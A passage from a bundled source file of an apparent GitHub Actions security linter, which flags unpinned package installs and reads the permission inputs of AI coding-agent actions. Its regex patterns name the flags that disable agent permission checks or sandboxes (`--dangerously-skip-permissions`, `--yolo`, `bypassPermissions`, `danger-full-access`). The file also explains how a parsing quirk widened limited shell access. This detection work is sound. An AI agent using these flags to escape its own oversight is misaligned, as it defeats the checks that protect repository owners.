    "-F",
    "--loglevel",
    "--logs-dir",
    "--userconfig",
    "--globalconfig",
    "--location",
    "--omit",
    "--include",
    "--install-strategy",
    "--before",
    "--cafile",
    "--proxy",
    "--https-proxy",
    "--fetch-retries",
    "--fetch-timeout",
    "--network-timeout",
    "--modules-folder",
    "--cache-folder",
    "--global-folder",
    "--mutex",
    "--store-dir",
    "--virtual-store-dir",
    "--reporter",
    "--backend",
    "--cache-dir"
  ],
  gem: ["--source", "-s", "-i", "--install-dir", "-n", "--bindir", "--platform"],
  go: [
    "-C",
    "-p",
    "-tags",
    "-ldflags",
    "-gcflags",
    "-asmflags",
    "-mod",
    "-modfile",
    "-o",
    "-overlay",
    "-pgo",
    "-pkgdir",
    "-toolexec",
    "-buildmode",
    "-compiler",
    "-installsuffix"
  ],
  apk: ["-X", "--repository", "-p", "--root", "--arch", "-t", "--virtual", "--cache-dir", "--keys-dir", "--repositories-file"],
  dnf: [
    "-c",
    "--config",
    "--installroot",
    "--releasever",
    "--setopt",
    "--enablerepo",
    "--disablerepo",
    "--repo",
    "--repoid",
    "-x",
    "--exclude",
    "--forcearch"
  ],
  cargo: [
    "--root",
    "--target",
    "--target-dir",
    "-F",
    "--features",
    "--profile",
    "-j",
    "--jobs",
    "--index",
    "--registry",
    "--bin",
    "--example",
    "--config",
    "-Z"
  ],
  dotnet: ["--tool-path", "--add-source", "--configfile", "--framework", "-a", "--arch", "--verbosity", "-v"],
  choco: ["-s", "--source", "--params", "--package-parameters", "--install-arguments"]
};
var GO_PATTERNS = /* @__PURE__ */ new Set(["tool", "all", "std", "cmd"]);
var INSTALLERS = /* @__PURE__ */ new Set([
  "apt-get",
  "apt",
  "yum",
  "dnf",
  "apk",
  "brew",
  "choco",
  "zypper",
  "pacman",
  "pip",
  "pip3",
  "pipx",
  "uv",
  "npm",
  "pnpm",
  "yarn",
  "bun",
  "gem",
  "go",
  "cargo",
  "dotnet"
]);
function unversionedInstall(command) {
  if (!INSTALLERS.has(command.name)) return null;
  const words2 = command.argv.map((word) => word.text);
  const name = command.name;
  const rest = args(command);
  const valueOptions = VALUE_OPTIONS[name === "apt-get" ? "apt" : name === "pip3" ? "pip" : name === "yum" ? "dnf" : name === "pnpm" || name === "yarn" || name === "bun" ? "npm" : name] ?? [];
  const after = (index) => rest.slice(index).filter((word, i, words3) => {
    if (word.text.startsWith("-") || word.text.includes("$")) return false;
    const previous = i > 0 ? words3[i - 1].text : "";
    return !valueOptions.includes(previous);
  });
  const hasAny = (...flags) => rest.some((word) => flags.includes(word.text) || flags.some((flag) => word.text.startsWith(`${flag}=`)));
  switch (name) {
    case "apt-get":
    case "apt":
      if (words2[1] !== "install") return null;
      return { manager: name, packages: after(1).filter((word) => !word.text.includes("=") && !/\.deb$/.test(word.text)), system: true };
    case "yum":
    case "dnf":
    case "apk":
    case "brew":
    case "choco":
    case "zypper":
    case "pacman": {
      const verb = name === "apk" ? "add" : name === "pacman" ? "-S" : "install";
      if (words2[1] !== verb) return null;
      if (name === "choco" && hasAny("--version")) return null;
      return { manager: name, packages: after(1).filter((word) => !/[=@]|-\d/.test(word.text)), system: true };
    }
    case "pip":
    case "pip3":
    case "pipx":
      if (words2[1] !== "install") return null;
      if (hasAny("-r", "--requirement", "-e", "--editable", "--require-hashes", "-c", "--constraint")) return null;
      return { manager: name, packages: after(1).filter((word) => !/[=<>~!@]|^\.|\/|\.whl$|\.tar\.gz$/.test(word.text)), system: false };
    case "uv":
      if (words2[1] === "pip" && words2[2] === "install") {
        if (hasAny("-r", "--requirement", "-e", "--editable", "--require-hashes", "-c", "--constraint")) return null;
        return { manager: "uv pip", packages: after(2).filter((word) => !/[=<>~!@]|^\.|\//.test(word.text)), system: false };
      }
      if (words2[1] === "tool" && words2[2] === "install")
        return { manager: "uv tool", packages: after(2).filter((word) => !/[=<>~!@]|^\.|\//.test(word.text)), system: false };
      return null;
    case "npm":
    case "pnpm":
    case "yarn":
    case "bun": {
      const verb = words2[1];
      const global = hasAny("-g", "--global") || name === "yarn" && verb === "global";
      const adds = verb === "add" || verb === "global" && words2[2] === "add" || (verb === "install" || verb === "i") && (name === "npm" || name === "bun" || global);
      if (!adds) return null;
      const from = verb === "global" ? 2 : 1;
      return {
        manager: `${name}${global ? " -g" : ""}`,
        packages: after(from).filter((word) => !/^@?[^@]+@.+/.test(word.text) && !/^[./]|^file:|^git|\.tgz$/.test(word.text)),
        system: false
      };
    }
    case "gem":
      if (words2[1] !== "install" || hasAny("-v", "--version")) return null;
      return { manager: "gem", packages: after(1).filter((word) => !word.text.includes(":")), system: false };
    case "go":
      if (words2[1] !== "install" && words2[1] !== "get") return null;
      return {
        manager: `go ${words2[1]}`,
        // `tool`, `all`, `std`, `cmd` are package patterns: `go install tool` builds the `tool` directives of go.mod, at their go.mod versions.
        packages: after(1).filter(
          (word) => !/@(v?\d|[0-9a-f]{7,})/.test(word.text) && !/^\.\.?(\/|$)/.test(word.text) && !GO_PATTERNS.has(word.text)
        ),
        system: false
      };
    case "cargo":
      if (words2[1] !== "install" || hasAny("--version", "--vers", "--path", "--git", "--rev", "--tag")) return null;
      return { manager: "cargo", packages: after(1).filter((word) => !word.text.includes("@")), system: false };
    case "dotnet":
      if (words2[1] !== "tool" || words2[2] !== "install" || hasAny("--version")) return null;
      return { manager: "dotnet tool", packages: after(2), system: false };
    default:
      return null;
  }
}
var REGULAR_MANAGERS = /^(gem|bundle|npm|yarn|pnpm|bun)\b/;
var adhocPackages = {
  id: "adhoc-packages",
  title: "Package installed at run time without a version",
  kinds: ["workflow", "action"],
  severity: "low",
  confidence: "high",
  persona: "pedantic",
  online: false,
  docs: {
    summary: "A `run:` step installs packages by name with no version (`apt-get install`, `pip install`, `npm install -g`, `gem install`, `go install …@latest`, `cargo install`), so each run takes whatever the registry serves that minute.",
    why: "An unpinned install is the moment a compromised release reaches you. In LiteLLM (2026, PYSEC-2026-2) the job holding the PyPI credential ran an unpinned `apt-get install trivy` hours after Trivy's release channel was taken over (CVE-2026-33634); the scanner stole the credential and malicious LiteLLM versions followed. Shai-Hulud (2025) spread through `npm install` of freshly published worm versions.",
    fix: "Pin every package (`pip install ruff==0.6.9`, `npm install -g pnpm@9.12.0`, `go install golang.org/x/tools/cmd/goimports@v0.26.0`, `gem install bundler -v 2.5.22`, `apt-get install jq=1.7.1-3`), better with hashes (`pip install --require-hashes -r requirements.txt`), or use a lock file (`npm ci`, `uv sync --locked`). Keep such installs out of jobs that hold publish credentials."
  },
  check({ file, report: report2 }) {
    for (const run2 of runScripts(file)) {
      let credentials;
      for (const command of run2.script.commands) {
        const install = unversionedInstall(command);
        if (!install || install.packages.length === 0) continue;
        if (credentials === void 0) credentials = publishCredentials(file, run2.job);
        const names = install.packages.map((word) => `\`${word.text}\``);
        const span = run2.sourceSpan({ start: install.packages[0].span.start, end: install.packages[install.packages.length - 1].span.end });
        report2({
          span,
          message: `\`${install.manager}\` installs ${names.slice(0, 4).join(", ")}${names.length > 4 ? "…" : ""} without a version${credentials ? `, in a job holding publish credentials (${credentials})` : ""}: every run takes whatever the registry serves`,
          severity: credentials ? "medium" : "low",
          persona: credentials || REGULAR_MANAGERS.test(install.manager) ? "regular" : "pedantic",
          confidence: "high"
        });
      }
    }
  }
};

// server/src/knowledge/agent-actions.ts
var SHELL_AGENT = "it is a coding agent with a shell";
var AGENT_ACTIONS = [
  {
    action: "anthropics/claude-code-action",
    promptInputs: [
      "prompt",
      "direct_prompt",
      "override_prompt",
      "custom_instructions",
      "claude_args",
      "system_prompt",
      "append_system_prompt"
    ],
    openAccessInputs: ["allowed_non_write_users", "allowed_bots"],
    toolInputs: ["allowed_tools", "claude_args", "settings"],
    gated: true,
    tools: "limited",
    toolsWhy: "by default it edits files and runs git commands",
    tagMode: true,
    sources: [
      { file: "action.yml", commit: "103450edd930c700b0f2776f5466ca0d890ba3ee" },
      { file: "action.yml", commit: "008284398f9706427970c06a406d9ebd6a1cecfa" },
      { file: "src/entrypoints/run.ts", commit: "01fbf36bba6bc8685f4adae2f698beb218ec198c" },
      { file: "src/github/validation/permissions.ts", commit: "0085208689431bbb354d99a595ef3687a8579f08" },
      { file: "src/modes/detector.ts", commit: "0478993f8ca1d5fc2e5b669bebb55316bf1ec9c7" },
      { file: "src/modes/tag/index.ts", commit: "09163babdc85cc88fb4a25bf78fd1b556433a68c" },
      { file: "src/modes/agent/index.ts", commit: "0edbe188537bd908a0a8a9fc46c000f9312e0136" }
    ]
  },
  {
    action: "anthropics/claude-code-base-action",
    promptInputs: ["prompt", "system_prompt", "append_system_prompt"],
    openAccessInputs: [],
    toolInputs: ["allowed_tools", "claude_args", "settings"],
    gated: false,
    tools: "none",
    toolsWhy: "by default it allows no edit or shell tool, so it only reads files",
    tagMode: false,
    sources: [
      { file: "action.yml", commit: "005f1e447474821b1349e3a009dcefe91df03f98" },
      { file: "action.yml", commit: "8208cd1dcb43ec256c6d3ac42f343998dccabd55" },
      { file: "src/parse-sdk-options.ts", commit: "433d8156ab8f2c9ea48f770fbe8b97f9b5438006" },
      { file: "src/run-claude.ts", commit: "03d620fb6efba6b8a805f4ad6b03213048e58524" }
    ]
  },
  {
    action: "openai/codex-action",
    // v1 spelt some inputs with underscores (`codex_args`, `safety_strategy`, `allow_bots`) and could skip its
    // write-access check with `require_repo_write: false`.
    promptInputs: ["prompt", "codex-args", "codex_args"],
    openAccessInputs: ["allow-users", "allow-bots", "allow-bot-users", "allow_bots", "require_repo_write"],
    toolInputs: ["sandbox", "safety-strategy", "safety_strategy", "codex-args", "codex_args", "permission-profile"],
    gated: true,
    tools: "limited",
    toolsWhy: "by default it runs commands in a workspace sandbox",
    tagMode: false,
    sources: [
      { file: "action.yml", commit: "0006efa62261ffd5c7bb5131ff06a84cf849ed1c" },
      { file: "action.yml", commit: "c25c0044c719c55ce70bd35625ff9d40c8e199bc" },
      { file: "src/checkActorPermissions.ts", commit: "2ab995e616515d214e6bbff0c66310822251d673" }
    ]
  },
  {
    action: "google-github-actions/run-gemini-cli",
    promptInputs: ["prompt"],
    openAccessInputs: [],
    toolInputs: ["settings"],
    gated: false,
    tools: "shell",
    toolsWhy: "it runs `gemini --yolo`, which approves every tool, `run_shell_command` included, unless `settings` lists the core tools or excludes `run_shell_command`",
    tagMode: false,
    sources: [
      { file: "action.yml", commit: "8625910245fcc63a80f91cb677009073a5e13459" },
      { file: "action.yml", commit: "0434cc5d3ee434057dab5ad830056a46906e886d" },
      { file: "google-gemini/gemini-cli:docs/cli/configuration.md", commit: "175b3a1f3b3a9719b59d154baacf483b2e477c2b" },
      { file: "google-gemini/gemini-cli:docs/trust-guidance.md", commit: "27a6f892f1ddfc1a58d6effb9cb0a78554bdfc49" }
    ]
  },
  {
    action: "actions/ai-inference",
    promptInputs: ["prompt", "system-prompt"],
    openAccessInputs: [],
    toolInputs: ["enable-github-mcp"],
    gated: false,
    tools: "none",
    toolsWhy: "it only returns text",
    tagMode: false,
    sources: [{ file: "action.yml", commit: "6d144ac4747eb0bccee71c4746c3029357be1633" }]
  },
  {
    action: "github/copilot-swe-agent",
    promptInputs: ["prompt"],
    openAccessInputs: [],
    toolInputs: [],
    gated: false,
    tools: "shell",
    toolsWhy: SHELL_AGENT,
    tagMode: false,
    sources: []
  },
  {
    action: "warpdotdev/warp-agent-action",
    promptInputs: ["prompt"],
    openAccessInputs: [],
    toolInputs: [],
    gated: false,
    tools: "shell",
    toolsWhy: SHELL_AGENT,
    tagMode: false,
    sources: [
      { file: "action.yml", commit: "0362b73c621875dd1d45f1ef9a4f5c0447dcd7cf" },
      { file: "src/index.ts", commit: "25615cf7b4b369d6e7657c2b73695e5075d4722b" },
      { file: "README.md", commit: "0445aa77ed3568d78d02869ea16146c40d7d86f2" }
    ]
  },
  {
    action: "cursor/cursor-agent-action",
    promptInputs: ["prompt"],
    openAccessInputs: [],
    toolInputs: [],
    gated: false,
    tools: "shell",
    toolsWhy: SHELL_AGENT,
    tagMode: false,
    sources: []
  }
];
function agentActionFor(owner, repo, path) {
  return findAction(AGENT_ACTIONS, owner, repo, path);
}

// server/src/knowledge/agents/readings.ts
function withValue(step, name) {
  const entry = step.with.entries.find((candidate) => candidate.key.toLowerCase() === name.toLowerCase());
  if (!entry) return null;
  const text = scalarText(entry.value);
  return text === null ? null : { text, entry };
}
function quoteList(items) {
  return items.map((item) => `\`${item}\``).join(", ");
}
function readingOf(effect) {
  return { effects: effect ? [effect] : [] };
}
function genericEffect(name, key, text, span) {
  const input2 = `\`${key}\``;
  if (/--dangerously-skip-permissions|bypassPermissions|--dangerously-bypass-approvals-and-sandbox|--yolo\b|"yolo"\s*:\s*true/i.test(text))
    return { level: "shell", why: `${input2} turns off permission checks`, span, bypass: true };
  if (/danger-full-access/i.test(text)) return { level: "shell", why: `${input2} is \`danger-full-access\``, span };
  if ((name === "safety-strategy" || name === "safety_strategy") && /^\s*unsafe\s*$/i.test(text))
    return { level: "shell", why: `\`${key}: unsafe\``, span };
  if (/\bBash\b(?!\s*\()|\bBash\(\s*(?:\*\s*)?\)|\brun_shell_command\b(?!\s*\()|"ShellTool"/.test(text))
    return { level: "shell", why: `${input2} allows any shell command (\`Bash\`)`, span, shellTool: true };
  if (/\bBash\s*\(|\brun_shell_command\s*\(/.test(text))
    return { level: "limited", why: `${input2} allows some shell commands`, span, shellTool: true };
  if (/\b(Write|Edit|MultiEdit)\b|\bacceptEdits\b|workspace-write|enable-github-mcp|^\s*true\s*$/.test(text))
    return { level: "limited", why: `${input2} allows tools`, span };
  return null;
}
function namedUsersWhy(shown, text) {
  const entries = text.split(",").map((user) => user.trim()).filter((user) => user !== "");
  const users = entries.filter((user) => user !== "*");
  const who = users.length === 0 ? "lets no one" : `lets only ${users.length === 1 ? "the user" : "the users"} ${quoteList(users)}`;
  const wildcardLike = entries.includes("*") || users.some((user) => /^(all|everyone|anyone)$/i.test(user));
  return `${shown} ${who} skip the write-access check; everyone else still needs write access${wildcardLike ? " (only the whole value `'*'` means everyone)" : ""}`;
}

// server/src/knowledge/agents/settings-json.ts
function jsonObject(text) {
  const trimmed = text.trim();
  if (!trimmed.startsWith("{")) return null;
  try {
    const value = JSON.parse(replaceExpressionFences(trimmed, "0"));
    return value !== null && typeof value === "object" && !Array.isArray(value) ? value : null;
  } catch {
    return null;
  }
}
function objectAt(value) {
  return value !== null && typeof value === "object" && !Array.isArray(value) ? value : null;
}
function stringsAt(value) {
  return Array.isArray(value) ? value.filter((item) => typeof item === "string").map((item) => item.trim()) : null;
}
function valueAfterKey(text, key, opener) {
  const needle = `"${key}"`;
  for (let at = text.indexOf(needle); at !== -1; at = text.indexOf(needle, at + 1)) {
    let i = at + needle.length;
    while (i < text.length && /\s/.test(text[i])) i++;
    if (text[i] !== ":") continue;
    i++;
    while (i < text.length && /\s/.test(text[i])) i++;
    if (text[i] === opener) return i + 1;
  }
  return -1;
}
function looseList(text, key) {
  const start = valueAfterKey(text, key, "[");
  if (start === -1) return null;
  const close = text.indexOf("]", start);
  if (close === -1) return null;
  return quotedStrings(text.slice(start, close)).map((item) => item.trim());
}
var isLineBreak = (ch) => ch === "\n" || ch === "\r" || ch === "\u2028" || ch === "\u2029";
function quotedStrings(text) {
  const found = [];
  let from = 0;
  for (; ; ) {
    const open = text.indexOf('"', from);
    if (open === -1) return found;
    let i = open + 1;
    while (i < text.length && text[i] !== '"') {
      if (text[i] !== "\\") i++;
      else if (i + 1 < text.length && !isLineBreak(text[i + 1])) i += 2;
      else break;
    }
    if (i < text.length && text[i] === '"') {
      found.push(text.slice(open + 1, i));
      from = i + 1;
    } else {
      from = Math.max(i, open + 1);
    }
  }
}
function looseString(text, key) {
  const start = valueAfterKey(text, key, '"');
  if (start === -1) return null;
  const close = text.indexOf('"', start);
  return close === -1 ? null : text.slice(start, close);
}

// server/src/knowledge/agents/claude.ts
var CLAUDE_ACTIONS = /* @__PURE__ */ new Set(["anthropics/claude-code-action", "anthropics/claude-code-base-action"]);
function shellWords(text) {
  const words2 = [];
  let word = "";
  let started = false;
  let quote2 = null;
  for (const ch of text) {
    if (quote2 !== null) {
      if (ch === quote2) quote2 = null;
      else word += ch;
    } else if (ch === '"' || ch === "'") {
      quote2 = ch;
      started = true;
    } else if (/\s/.test(ch)) {
      if (started) words2.push(word);
      word = "";
      started = false;
    } else {
      word += ch;
      started = true;
    }
  }
  if (started) words2.push(word);
  return words2;
}
var COMMENT_LINE = /^[ \t]*#.*$/gm;
function closingQuote(text, open) {
  const quote2 = text[open];
  for (let i = open + 1; i < text.length; i++) {
    if (text[i] === "\\" && text[i + 1] === quote2) i++;
    else if (text[i] === quote2) return i;
  }
  return -1;
}
function shellQuoteWords(text) {
  const source = text.replace(COMMENT_LINE, (line) => " ".repeat(line.length));
  const words2 = [];
  let word = "";
  let start = -1;
  let glob = false;
  const finish = (at, beforeParen = false) => {
    if (start >= 0 && !glob) words2.push({ text: word, end: at, beforeParen });
    word = "";
    start = -1;
    glob = false;
  };
  for (let i = 0; i < source.length; i++) {
    const ch = source[i];
    if (source.startsWith("${{", i)) {
      const close = source.indexOf("}}", i);
      const stop = close < 0 ? source.length : close + 2;
      if (start < 0) start = i;
      word += source.slice(i, stop);
      i = stop - 1;
    } else if (/\s/.test(ch)) finish(i);
    else if ("|&;()<>".includes(ch)) finish(i, ch === "(");
    else if (ch === "#") {
      finish(i);
      break;
    } else if (ch === '"' || ch === "'") {
      const close = closingQuote(source, i);
      if (close < 0) continue;
      if (start < 0) start = i;
      const inner = source.slice(i + 1, close);
      word += ch === "'" ? inner : inner.replace(/\\(["\\$])/g, "$1");
      i = close;
    } else {
      if (start < 0) start = i;
      if (ch === "\\") {
        const next = source[i + 1];
        if (next === void 0 || next === "\n" || next === "\r") continue;
        if (next === "*" || next === "?") glob = true;
        word += next;
        i++;
      } else {
        if (ch === "*" || ch === "?") glob = true;
        word += ch;
      }
    }
  }
  finish(source.length);
  return words2;
}
function toolList(values) {
  const tools = [];
  for (const value of values) {
    let depth = 0;
    let current = "";
    for (const ch of value) {
      if (ch === "(") depth++;
      else if (ch === ")") depth = Math.max(0, depth - 1);
      if (depth === 0 && (ch === "," || /\s/.test(ch))) {
        if (current.trim()) tools.push(current.trim());
        current = "";
      } else current += ch;
    }
    if (current.trim()) tools.push(current.trim());
  }
  return tools;
}
var BARE_BASH = /^Bash(\(\s*(?:\*\s*)?\))?$/;
function readClaudeSettings(key, text, span) {
  const settings = jsonObject(text);
  const loose = settings === null && text.trim().startsWith("{");
  if (!settings && !loose) return { effects: [] };
  const permissions = settings ? objectAt(settings.permissions) : null;
  const allow = (settings ? stringsAt(permissions?.allow) : looseList(text, "allow")) ?? [];
  const deny = (settings ? stringsAt(permissions?.deny) : looseList(text, "deny")) ?? [];
  const modeValue = settings ? permissions?.defaultMode : looseString(text, "defaultMode");
  const mode = typeof modeValue === "string" ? modeValue : null;
  const input2 = `\`${key}\``;
  const effects = [];
  const anyBash = allow.filter((tool) => BARE_BASH.test(tool));
  const someBash = allow.filter((tool) => /^Bash\s*\(/.test(tool) && !BARE_BASH.test(tool));
  const edits = allow.filter((tool) => /^(Write|Edit|MultiEdit|NotebookEdit)\b/.test(tool));
  if (anyBash.length > 0)
    effects.push({
      level: "shell",
      why: `${input2} allows any shell command (${quoteList(anyBash)} in \`permissions.allow\`)`,
      span,
      shellTool: true
    });
  if (someBash.length > 0)
    effects.push({
      level: "limited",
      why: `${input2} allows some shell commands (${quoteList(someBash)} in \`permissions.allow\`)`,
      span,
      shellTool: true
    });
  if (edits.length > 0)
    effects.push({ level: "limited", why: `${input2} allows file edits (${quoteList(edits)} in \`permissions.allow\`)`, span });
  if (mode === "bypassPermissions")
    effects.push({
      level: "shell",
      why: `${input2} sets \`permissions.defaultMode: bypassPermissions\`, which turns off permission checks`,
      span,
      bypass: true
    });
  else if (mode === "acceptEdits")
    effects.push({ level: "limited", why: `${input2} sets \`permissions.defaultMode: acceptEdits\`, which approves file edits`, span });
  const deniedBash = deny.find((tool) => BARE_BASH.test(tool));
  const shellDenied = deniedBash ? { why: `${input2} denies \`${deniedBash}\` (\`permissions.deny\`)`, span, left: ", so it runs no shell command" } : void 0;
  return { effects, shellDenied };
}
function claudeArgsSplit(ref2) {
  const name = (ref2 ?? "").trim();
  if (/^(v1|main)$/i.test(name)) return "keeps";
  if (/^(v0(\.\d+)*|beta)$/i.test(name)) return "drops";
  const version2 = /^v?(\d+)\.(\d+)\.(\d+)$/.exec(name);
  if (!version2) return "unknown";
  const [major, minor, patch] = version2.slice(1).map(Number);
  return major > 1 || major === 1 && (minor > 0 || patch >= 149) ? "keeps" : "drops";
}
function cutBash(text, word) {
  if (!word.beforeParen || word.text.split(",").pop().trim() !== "Bash") return null;
  const close = text.indexOf(")", word.end);
  const lineEnd = text.indexOf("\n", word.end);
  const stop = close >= 0 && (lineEnd < 0 || close < lineEnd) ? close + 1 : word.end + 1;
  return `Bash${text.slice(word.end, stop)}`;
}
function plainBareBash(word) {
  const tools = word.text.split(",");
  return tools.some((tool, index) => BARE_BASH.test(tool.trim()) && !(word.beforeParen && index === tools.length - 1));
}
function splitDenied(words2, emptyEndsFlag) {
  const kept = [];
  const denied = [];
  const inline = [];
  for (let i = 0; i < words2.length; i++) {
    const match = /^--disallowed-?tools(?:=(.*))?$/i.exec(words2[i]);
    if (!match) {
      kept.push(i);
      continue;
    }
    if (match[1] !== void 0) inline.push(match[1]);
    else if (emptyEndsFlag && words2[i + 1] === "") continue;
    else while (i + 1 < words2.length && !words2[i + 1].startsWith("--")) denied.push(++i);
  }
  return { kept, denied, inline };
}
function readClaudeArgs(name, key, text, span, ref2) {
  const split = claudeArgsSplit(ref2);
  const at = ref2 ? `\`@${ref2}\`` : "this reference";
  const dropped = shellQuoteWords(text);
  const droppedParts = splitDenied(
    dropped.map((word) => word.text),
    true
  );
  const cutAllowed = droppedParts.kept.map((index) => cutBash(text, dropped[index])).filter((tool) => tool !== null);
  if (split === "drops") {
    const kept = droppedParts.kept.map((index) => dropped[index]);
    const denied2 = droppedParts.denied.map((index) => dropped[index]);
    let effect2 = genericEffect(name, key, kept.map((word) => word.text).join(" "), span);
    if (effect2?.shellTool && effect2.level === "shell" && cutAllowed.length > 0 && !kept.some(plainBareBash)) {
      effect2 = {
        ...effect2,
        why: `\`${key}\` allows any shell command: releases before v1.0.149 (this step uses ${at}) split \`claude_args\` like a shell and drop unquoted parentheses, so ${quoteList(cutAllowed)} reaches Claude as a bare \`Bash\`; write it quoted, \`"${cutAllowed[0]}"\``
      };
    }
    const deniedBash2 = toolList([...denied2.map((word) => word.text), ...droppedParts.inline]).find((tool) => BARE_BASH.test(tool));
    let shellDenied2;
    if (deniedBash2) {
      const cut = denied2.map((word) => cutBash(text, word)).filter((tool) => tool !== null);
      const why = cut.length > 0 && !denied2.some(plainBareBash) && !droppedParts.inline.some((value) => toolList([value]).some((tool) => BARE_BASH.test(tool))) ? `\`${key}\` denies \`Bash\` (\`--disallowedTools\`): releases before v1.0.149 (this step uses ${at}) drop the unquoted parentheses of ${quoteList(cut)}, so the whole shell is denied` : `\`${key}\` denies \`${deniedBash2}\` (\`--disallowedTools\`)`;
      shellDenied2 = { why, span, left: ", so it runs no shell command" };
    }
    return { effects: effect2 ? [effect2] : [], shellDenied: shellDenied2 };
  }
  const uncommented = text.replace(COMMENT_LINE, "");
  const words2 = shellWords(uncommented);
  const parts = splitDenied(words2, false);
  const denied = [...parts.denied.map((index) => words2[index]), ...parts.inline];
  let effect = genericEffect(name, key, denied.length === 0 ? uncommented : parts.kept.map((index) => words2[index]).join(" "), span);
  if (split === "unknown" && effect?.shellTool && effect.level === "limited" && cutAllowed.length > 0) {
    effect = {
      ...effect,
      why: `${effect.why}, but ${at} cannot be dated: releases before v1.0.149 drop the unquoted parentheses of ${quoteList(cutAllowed)} and so allow any shell command; write it quoted, \`"${cutAllowed[0]}"\``
    };
  }
  const deniedBash = toolList(denied).find((tool) => BARE_BASH.test(tool));
  const shellDenied = deniedBash ? { why: `\`${key}\` denies \`${deniedBash}\` (\`--disallowedTools\`)`, span, left: ", so it runs no shell command" } : void 0;
  return { effects: effect ? [effect] : [], shellDenied };
}
function readClaudeToolInput(name, key, text, span, ref2) {
  if (name === "settings") return readClaudeSettings(key, text, span);
  if (name === "claude_args") return readClaudeArgs(name, key, text, span, ref2);
  return null;
}
function readClaudeNonWriteUsers(step, key, text, span) {
  const token = withValue(step, "github_token");
  if (token === null || token.text.trim() === "") return null;
  if (text === "*") return { open: true, why: `\`${key}: '*'\` with \`github_token\` given lets anyone trigger it`, span };
  if (text !== "" && !text.includes("${{"))
    return { open: false, why: namedUsersWhy(`\`${key}: ${text}\` with \`github_token\` given`, text), span };
  return null;
}

// server/src/knowledge/agents/codex.ts
var CODEX_ACTION = "openai/codex-action";
function readCodexProfile(key, text, span, home) {
  const profile = text.trim();
  if (profile === "" || profile.includes("${{")) return { effects: [] };
  const shown = `\`${key}: '${profile}'\``;
  if (profile === ":read-only")
    return {
      base: { level: "none", why: `${shown} lets the commands it runs read files but not write them or reach the network`, span },
      effects: []
    };
  if (profile === ":workspace")
    return { effects: [{ level: "limited", why: `${shown} lets the commands it runs write inside the workspace`, span }] };
  if (profile === ":danger-full-access" || profile === ":danger-no-sandbox")
    return { effects: [{ level: "shell", why: `${shown} runs its commands without a sandbox`, span }] };
  const where = home && home.trim() !== "" && !home.includes("${{") ? `\`${trimEndOf(home.trim(), "/")}/config.toml\` (\`codex-home\`)` : "the Codex home's `config.toml`";
  return {
    effects: [
      {
        level: "limited",
        why: `${shown} is a profile defined in ${where}, which this check cannot read: it decides what the commands may do`,
        span
      }
    ]
  };
}
var CODEX_READ_ONLY_STRATEGY = { "safety-strategy": "read-only", safety_strategy: "read_only" };
function codexReadOnlyStrategy(step) {
  return Object.entries(CODEX_READ_ONLY_STRATEGY).some(([name, value]) => withValue(step, name)?.text.trim() === value);
}
function readCodexSafety(name, key, text, span) {
  if (text.trim() === CODEX_READ_ONLY_STRATEGY[name]) {
    const why = `\`${key}: ${text.trim()}\` runs Codex in a read-only sandbox whatever \`sandbox\` says: its commands read files but cannot write them or reach the network (the action warns that Codex keeps the runner's sudo and could print \`openai-api-key\`)`;
    return { base: { level: "none", why, span }, effects: [] };
  }
  return readingOf(genericEffect(name, key, text, span));
}
function readCodexSandbox(step, key, text, span) {
  if (codexReadOnlyStrategy(step)) return { effects: [] };
  const mode = text.trim();
  const shown = `\`${key}: ${mode}\``;
  if (mode === "read-only")
    return {
      base: { level: "none", why: `${shown} lets the commands it runs read files but not write them or reach the network`, span },
      effects: []
    };
  if (mode === "workspace-write")
    return { effects: [{ level: "limited", why: `${shown} lets the commands it runs write inside the workspace`, span }] };
  if (mode === "danger-full-access") return { effects: [{ level: "shell", why: `${shown} runs its commands without a sandbox`, span }] };
  return readingOf(genericEffect("sandbox", key, text, span));
}
function readCodexToolInput(step, name, key, text, span) {
  if (name === "permission-profile") return readCodexProfile(key, text, span, withValue(step, "codex-home")?.text ?? null);
  if (name === "safety-strategy" || name === "safety_strategy") return readCodexSafety(name, key, text, span);
  if (name === "sandbox") return readCodexSandbox(step, key, text, span);
  return null;
}
function codexBotsWhy(name, key, text, ref2) {
  const minor = /^v?1\.(\d+)(?:\.\d+)*$/.exec(ref2 ?? "")?.[1];
  const anyBot = "lets any account whose login ends in `[bot]` (GitHub Apps, Dependabot) skip the write-access check";
  if (name === "allow_bots") return `\`${key}: ${text}\` ${anyBot}`;
  if (minor !== void 0 && Number(minor) < 7) return `\`${key}: ${text}\` ${anyBot} (openai/codex-action before v1.7)`;
  return `\`${key}: ${text}\` lets only \`github-actions[bot]\` (events made by this repository's own workflows) skip the write-access check; other bots still need write access (releases before v1.7 let any \`[bot]\` account through)`;
}
var CODEX_ACCESS_INPUTS = /* @__PURE__ */ new Set([
  "require_repo_write",
  "allow-users",
  "allow-bots",
  "allow_bots",
  "allow-bot-users"
]);
function readCodexAccess(name, key, text, span, ref2) {
  if (name === "require_repo_write") {
    return /^false$/i.test(text) ? { open: true, why: `\`${key}: ${text}\` lets anyone trigger it`, span } : null;
  }
  if (name === "allow-users") {
    if (text === "*") return { open: true, why: `\`${key}: '*'\` lets anyone trigger it`, span };
    if (text !== "" && !text.includes("${{")) return { open: false, why: namedUsersWhy(`\`${key}: ${text}\``, text), span };
    return null;
  }
  if (name === "allow-bots" || name === "allow_bots") {
    return /^(true|1|yes|y)$/i.test(text) ? { open: false, why: codexBotsWhy(name, key, text, ref2), span } : null;
  }
  if (name === "allow-bot-users" && text !== "") {
    const bots = text.split(",").map((bot) => bot.trim()).filter((bot) => bot !== "");
    const why = text.includes("*") ? `\`${key}: '${text}'\` is refused by the action: its write-access check then rejects every run` : `\`${key}: ${text}\` lets the bots ${quoteList(bots)} skip the write-access check`;
    return { open: false, why, span };
  }
  return null;
}

// server/src/knowledge/agents/gemini.ts
var GEMINI_ACTION = "google-github-actions/run-gemini-cli";
var BARE_GEMINI_SHELL = /^(run_shell_command|ShellTool)$/;
var GEMINI_SHELL_PREFIX = /^(run_shell_command|ShellTool)\s*\(/;
function readGeminiSettings(key, text, span) {
  const settings = jsonObject(text);
  if (!settings && !text.trim().startsWith("{")) return { effects: [] };
  const tools = settings ? objectAt(settings.tools) : null;
  const coreFlat = settings ? stringsAt(settings.coreTools) : looseList(text, "coreTools");
  const coreNested = settings ? stringsAt(tools?.core) : looseList(text, "core");
  const core = coreFlat ?? coreNested;
  const coreKey = coreFlat ? "coreTools" : "tools.core";
  const excluded = [
    ...(settings ? stringsAt(settings.excludeTools) : looseList(text, "excludeTools")) ?? [],
    ...(settings ? stringsAt(tools?.exclude) : looseList(text, "exclude")) ?? []
  ];
  const input2 = `\`${key}\``;
